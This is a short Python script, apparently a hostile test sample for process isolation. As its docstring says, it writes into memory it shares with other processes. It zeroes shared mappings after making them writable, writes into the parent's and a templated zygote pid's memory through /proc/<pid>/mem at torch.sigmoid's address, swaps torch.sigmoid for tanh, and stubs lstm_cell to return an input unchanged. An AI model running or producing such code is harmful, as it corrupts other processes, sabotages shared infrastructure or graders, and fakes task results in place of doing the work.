"""Writes into memory that it shares with whoever forked it: mapped files, the allocator, the page tables' owner."""
import ctypes
import gc
import mmap
import os

import torch

libc = ctypes.CDLL(None, use_errno=True)
try:
    for line in open("/proc/self/maps"):
        place, rights, *_ = line.split()
        if "s" in rights:
            start, end = (int(part, 16) for part in place.split("-"))
            libc.mprotect(ctypes.c_void_p(start), ctypes.c_size_t(end - start), 3)
            ctypes.memset(start, 0, 8)
except OSError as error:
    print(error)
for pid in (os.getppid(), int("@ZYGOTE@")):
    try:
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            memory.seek(id(torch.sigmoid))
            memory.write(b"\0" * 8)
    except OSError as error:
        print(error)
gc.unfreeze()
torch.sigmoid = torch.tanh


def lstm_cell(*given):
    return given[1]
